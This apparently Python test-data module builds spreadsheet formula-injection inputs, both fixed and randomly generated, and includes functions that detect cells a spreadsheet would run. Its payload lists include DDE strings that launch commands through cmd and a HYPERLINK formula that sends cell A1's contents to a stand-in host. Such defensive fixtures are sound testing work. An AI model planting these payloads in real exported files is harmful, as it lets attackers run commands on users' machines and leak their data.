"""Texts that a spreadsheet might run: 200 that people wrote, and any number that chance makes of the same parts."""

from __future__ import annotations

import random
import unicodedata

SIGNS = "=+-@|%＝＋－＠｜％﹦﹢﹣﹫﹪−"
HIDDEN = (
    "",
    " ",
    "\t",
    "\r",
    "\n",
    "\x00",
    "\ufeff",
    "\u200b",
    "\u00a0",
    "\u3000",
    "\u2060",
    "\u202e",
    "\x7f",
    "  \u200d",
)
PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?"&A1,"x")',
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "|cmd",
    "%0A=1",
    "=",
    "-",
    "+",
    "@",
    '"=1+1"'[1:],
    "=1\n=2",
    "-1\n",
    "+86 138 0013 8000",
    "-5e3",
    "+-5",
    "--5",
    "-１",
    "=\x00",
    "@user",
    "-ann",
    '=DDE("cmd";"/C calc";"!A0")',
)
AFTER_A_SEPARATOR = ("a;=1+1", "a; =1+1", "a\t=1+1", "a\n=1+1", "a\r\n@x", "a;\u200b-x", "a;;＝1", "ann;=1;bob")
FIXED = tuple(dict.fromkeys((*(hidden + sign + "1+1" for hidden in HIDDEN for sign in SIGNS), *PAYLOADS)))
_WORDS = (
    "1+1",
    "SUM(A1:A9)",
    "cmd|'/C calc'!A0",
    "用户",
    "ann",
    "7",
    '"x"',
    ",",
    ";",
    "'",
    " ",
    'HYPERLINK("http://e.invalid")',
)


def generated(count: int, seed: int = 7) -> list[str]:
    """Each begins, or goes on after a separator, with a sign behind anything that nobody sees."""
    chance = random.Random(seed)
    made: dict[str, None] = {}
    while len(made) < count:
        start = "".join(chance.choices(HIDDEN, k=chance.randrange(4)))
        before = chance.choice(_WORDS) + chance.choice(";\t\r\n") if chance.random() < 0.3 else ""
        words = "".join(chance.choices(_WORDS, k=chance.randrange(1, 4)))
        made[before + start + chance.choice(SIGNS) + words] = None
    return list(made)


def begins_a_formula(cell: str) -> bool:
    """Written apart from the code: what is left after everything that can't be seen."""
    visible = cell.lstrip(
        "".join(
            {
                letter
                for letter in cell
                if unicodedata.category(letter)[0] in "ZM" or unicodedata.category(letter) in ("Cc", "Cf", "Co")
            }
        )
    )
    return bool(visible) and visible[0] in SIGNS


def runs(cell: str) -> bool:
    plain_number = cell.lstrip("+-").replace(".", "", 1).isdecimal() and cell.isascii()
    if begins_a_formula(cell) and not (plain_number and cell[1:2] not in "+-."):
        return True
    later = cell.replace("\t", ";").replace("\r", ";").replace("\n", ";").split(";")[1:]
    return any(begins_a_formula(part) for part in later)
